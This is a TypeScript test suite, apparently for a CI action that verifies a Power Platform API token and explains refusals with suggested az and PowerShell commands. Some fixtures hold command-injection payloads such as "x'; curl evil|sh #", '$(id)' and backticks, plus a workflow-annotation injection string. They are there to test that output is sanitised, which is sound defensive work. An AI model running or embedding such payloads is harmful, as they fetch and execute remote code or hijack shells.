import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { explainRefusal } from '../../src/advice/explain.ts'
import type { CannedAnswer } from '../emulator/faults.ts'
import { commandsOf, paste, pastes, shells } from '../pasted.ts'
import { assertOneSection, render } from '../rendered.ts'
import { type Scenario, type ScenarioResult, startScenario, theError, trust } from '../scenario.ts'
import { situation } from '../unit/situation.ts'

async function start(environments: string[] = []): Promise<Scenario> {
  const scenario = await startScenario()
  trust(scenario)
  scenario.emulator.powerPlatform.assignRole({ principalId: scenario.app.objectId, role: 'Reader' })
  for (const displayName of environments) {
    scenario.emulator.powerPlatform.addEnvironment(scenario.tenant.id, { displayName })
  }
  return scenario
}

/** A failing verification: the step fails, and the token that was handed over before stays. */
function assertRefusal(result: ScenarioResult, ...words: string[]): void {
  assert.equal(result.outcome, 'failure', result.log)
  assert.ok(result.outputs['access-token'], 'the token was taken back')
  const message = theError(result)
  for (const word of words) assert.ok(message.includes(word), `${word} is not in:\n${message}`)
}

describe('verify', { concurrency: 4 }, () => {
  it('logs how many environments are visible, and their names', async () => {
    await using scenario = await start(['Contoso (default)', 'Contoso Dev'])
    const result = await scenario.run({ verify: 'true' })
    assert.equal(result.outcome, 'success', result.log)
    assert.match(result.log, /^Verified: 2 environments are visible: Contoso \(default\), Contoso Dev$/m)
    assert.deepEqual(result.requests, ['oidc GET 200', 'login POST 200', 'api GET 200'])
  })

  it('counts none and one', async () => {
    await using none = await start()
    assert.match((await none.run({ verify: 'true' })).log, /^Verified: 0 environments are visible$/m)
    await using one = await start(['Dev'])
    const { log, annotations } = await one.run({ verify: 'true' })
    assert.match(log, /^Verified: 1 environment is visible: Dev$/m)
    assert.deepEqual(annotations, [])
  })

  it('warns of what is probably wrong when none is visible, in the summary, too', async () => {
    await using scenario = await start()
    const { outcome, annotations, summary } = await scenario.run({ verify: 'true', summary: 'always' })
    assert.equal(outcome, 'success')
    const [{ type, message } = { type: '', message: '' }, ...others] = annotations
    assert.deepEqual([type, others], ['warning', []])
    assert.match(
      message,
      /^The token works and sees no environment, although every tenant has a default one\./,
    )
    assert.match(message, /^- The role: .* scope/m)
    assert.match(
      message,
      /^- The cloud: .* than public, whose admin center is admin\.powerplatform\.microsoft\.com/m,
    )
    assert.ok(
      message.includes(`- The tenant: the environments belong to another one than ${scenario.tenant.id}`),
    )
    assertOneSection(summary)
    assert.equal(render(summary).match(/<li>The (role|cloud|tenant): /g)?.length, 3)
  })

  it('does not warn of an empty page that others follow', async () => {
    await using scenario = await start()
    scenario.emulator.faults.next('api', { body: { value: [], nextLink: 'https://next.example' } })
    assert.deepEqual((await scenario.run({ verify: 'true' })).annotations, [])
  })

  it('names ten at most', async () => {
    await using scenario = await start(Array.from({ length: 12 }, (_, index) => `E${index + 1}`))
    const { log } = await scenario.run({ verify: 'true' })
    assert.match(log, /^Verified: 12 environments are visible: E1, .*, E10, and 2 more$/m)
  })

  it('takes a name for nothing but text', async () => {
    const hostile = 'Dev\n::error::injected\n##[error]x | `y` <b> \u202e'
    await using scenario = await start([hostile, 'https://evil.example', 'www.evil.example', '@octocat #1'])
    const result = await scenario.run({ verify: 'true', summary: 'always' })
    assert.equal(result.outcome, 'success', result.log)
    assert.deepEqual(result.annotations, [])
    assertOneSection(result.summary)
  })

  it('bears entries of any kind, and says when there are more pages', async () => {
    await using scenario = await start()
    const value = [{ displayName: { toString: 1 }, id: 'x' }, null, 7, { displayName: 'Dev' }]
    scenario.emulator.faults.next('api', { body: { value, nextLink: 'https://next.example' } })
    const { log } = await scenario.run({ verify: 'true' })
    assert.match(
      log,
      /^Verified: at least 4 environments are visible: x, without a name, without a name, Dev$/m,
    )
  })

  it("takes the API's application ID as scope, too", async () => {
    await using scenario = await start(['Dev'])
    const scope = '8578e004-a5c6-46e7-913e-12f58912df43'
    const { requests } = await scenario.run({ verify: 'true', scope })
    assert.equal(requests[2]?.slice(0, 3), 'api', 'it was taken for the scope of another API')
  })

  it('puts nothing but IDs into the commands that it prints', async () => {
    await using scenario = await start()
    const claims = { tid: "x'; curl evil|sh #", oid: '$(id)' }
    const token = `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.x`
    scenario.emulator.faults.next('login', {
      body: { token_type: 'Bearer', expires_in: 3599, access_token: token },
    })
    scenario.emulator.faults.next('api', { status: 403, body: {} })
    const result = await scenario.run({ verify: 'true' })
    assertRefusal(
      result,
      `/tenants/${scenario.tenant.id}`,
      'OBJECT_ID',
      `az ad sp show --id ${scenario.app.clientId}`,
    )
    assert.doesNotMatch(result.annotations[0]?.message ?? '', /curl evil|\$\(id\)/)
  })

  it('is not called unless asked for', async () => {
    await using scenario = await start()
    assert.deepEqual((await scenario.run({ verify: 'False' })).requests, ['oidc GET 200', 'login POST 200'])
  })

  it('prints the role assignment for a service principal without a role', async () => {
    await using scenario = await startScenario()
    trust(scenario)
    const { tenant, app } = scenario
    const result = await scenario.run({ verify: 'true' })
    assertRefusal(
      result,
      'Power Platform API (403): the token is valid, but the app has no role',
      'the admin center has no page for it',
      `Connect-AzAccount -Tenant ${tenant.id}`,
      'Get-AzAccessToken -ResourceUrl https://api.powerplatform.com/)',
      '-Uri "https://api.powerplatform.com/authorization/roleAssignments?api-version=2024-10-01"',
      'if the API answers InsufficientDelegatedPermissions',
      `New-PPRBACRoleAssignment -PrincipalObjectId ${app.objectId} `,
      JSON.stringify({
        roleDefinitionId: 'c886ad2e-27f7-4874-8381-5849b8d8a090',
        principalObjectId: app.objectId,
        principalType: 'ApplicationUser',
        scope: `/tenants/${tenant.id}`,
      }),
    )
    assert.deepEqual(result.requests, ['oidc GET 200', 'login POST 200', 'api GET 403'])
    assert.match(result.summary, /^```powershell\nConnect-AzAccount /m)
    assert.match(result.summary, /^```bash\naz login /m)
  })

  it('prints a role assignment that Power Platform accepts, and all is well', pastes, async () => {
    await using scenario = await startScenario()
    trust(scenario)
    const { emulator, tenant, app } = scenario
    const { annotations } = await scenario.run({ verify: 'true' })
    const commands = commandsOf(annotations[0]?.message ?? '')
    const assign = commands.find((command) => command.startsWith('echo ')) ?? ''
    const { calls } = await paste(assign, 'bash')
    const { principalObjectId } = JSON.parse(calls[0]?.input ?? '')
    emulator.powerPlatform.assignRole({
      principalId: principalObjectId,
      role: 'Reader',
      scope: `/tenants/${tenant.id}`,
    })
    assert.equal(principalObjectId, app.objectId)
    assert.equal((await scenario.run({ verify: 'true' })).outcome, 'success')
  })

  it('names the missing permission for a user', async () => {
    await using scenario = await startScenario()
    const { tenant, app } = scenario
    const user = { username: 'ana@contoso.onmicrosoft.com', password: 'Passw0rd!' }
    tenant.addUser(user)
    app.publicClient = true
    tenant.consent(app, ['AppManagement.ApplicationPackages.Read'])
    assertRefusal(
      await scenario.run({ ...user, verify: 'true' }),
      'Power Platform API (403): the app lacks a delegated permission',
      'InsufficientDelegatedPermissions',
      'The API takes any of: EnvironmentManagement.Environments.Read, All.All.ReadWrite.',
      '--api-permissions 177690ed-85f1-41d9-8dbf-2716e60ff46a=Scope',
      "oauth2PermissionScopes[?value=='All.All.ReadWrite'].id",
      `az ad app permission admin-consent --id ${app.clientId}`,
    )
  })

  it('looks the ID of a permission up within the command, in every shell', pastes, async () => {
    const { fixes = [] } = (
      await explainRefusal({
        ...{ by: 'x', tried: 'x', answer: [] },
        codes: ['Power Platform API 403 InsufficientDelegatedPermissions'],
        situation: situation({ credential: 'password', permissions: ['All.All.ReadWrite'] }),
      })
    ).parts
    for (const shell of shells) {
      const { calls, strangers } = await paste(fixes[0]?.command ?? '', shell)
      const given = calls.map((call) => call.arguments)
      assert.deepEqual(
        given.find(([, noun]) => noun === 'sp')?.slice(5),
        ['--query', "oauth2PermissionScopes[?value=='All.All.ReadWrite'].id", '--output', 'tsv'],
        shell,
      )
      assert.equal(given.find((words) => words.includes('add'))?.at(-1), 'printed-by-az=Scope', shell)
      assert.ok(
        given.some((words) => words.includes('admin-consent')),
        shell,
      )
      assert.deepEqual(strangers, [])
    }
  })

  it('puts nothing of the answer into a command but the plain names of permissions', async () => {
    await using scenario = await startScenario()
    const { tenant, app, emulator } = scenario
    const user = { username: 'ana@contoso.onmicrosoft.com', password: 'Passw0rd!' }
    tenant.addUser(user)
    app.publicClient = true
    tenant.consent(app, ['EnvironmentManagement.Environments.Read'])
    const message =
      "missing required delegated permissions: [A.B'].id;curl, $(id).x, `id`.x, PowerApps.Apps.Read]"
    const innererror = { code: 'InsufficientDelegatedPermissions', message }
    emulator.faults.next('api', { status: 403, body: { code: 'Forbidden', message: 'no', innererror } })
    const result = await scenario.run({ ...user, verify: 'true' })
    assertRefusal(result, 'the app lacks a delegated permission')
    for (const command of commandsOf(theError(result))) assert.doesNotMatch(command, /curl|\$\(id|`/)
  })

  const body = { error: { code: 'SomeCode', message: 'Some words.' } }
  for (const [status, answer, ...words] of [
    [
      401,
      { body },
      'Power Platform API (401): the token is not accepted',
      'SomeCode',
      'Some words.',
      'leave scope out',
    ],
    [
      401,
      { body: { error: { code: 'InvalidAuthenticationAudience', message: 'wrong audience' } } },
      'Power Platform API (401): the token is not accepted',
      'It was asked for https://api.powerplatform.com/.default',
      '#power-platform-api-401-invalidauthenticationaudience',
    ],
    [
      403,
      { body: { error: { code: 'Forbidden', message: 'no permission to access the path' } } },
      'Power Platform API (403): the token is valid, but the app has no role',
      'no permission to access the path',
      'New-PPAuthorizationApplication',
      'pac admin application register --application-id ',
      '#power-platform-api-403-forbidden',
    ],
    [
      403,
      { body: 'denied' },
      'Power Platform API (403): the token is valid, but the app has no role',
      '/authorization/roleAssignments?',
      '#power-platform-api-403',
    ],
    [408, {}, 'Power Platform API (408): the service has a fault', '#power-platform-api-fault'],
    [
      404,
      { body: { code: 'RouteNotFound', message: 'None.' } },
      'Power Platform API (404): there is no list of environments',
      'RouteNotFound',
    ],
    [400, { body }, 'Power Platform API (400): the answer is no list of environments', 'SomeCode'],
    [
      200,
      { body: '<html>sign in</html>' },
      'Power Platform API (200): the answer is no list of environments',
      "Check the network's proxy",
    ],
    [200, { body: { value: 'none' } }, 'Power Platform API (200): the answer is no list of environments'],
    [500, { body }, 'Power Platform API (500): the service has a fault', 'SomeCode'],
    [503, { body: '' }, 'Power Platform API (503): the service has a fault'],
    [429, { headers: { 'retry-after': '3600' } }, 'Power Platform API (429): too many requests'],
  ] as [number, CannedAnswer, ...string[]][]) {
    it(`says what ${status} means (${JSON.stringify(answer).slice(0, 40)})`, async () => {
      await using scenario = await start()
      scenario.emulator.faults.always('api', { status, ...answer })
      // Only what is retried takes so long.
      assertRefusal(await scenario.run({ verify: 'true', timeout: '3' }), ...words)
    })
  }
})
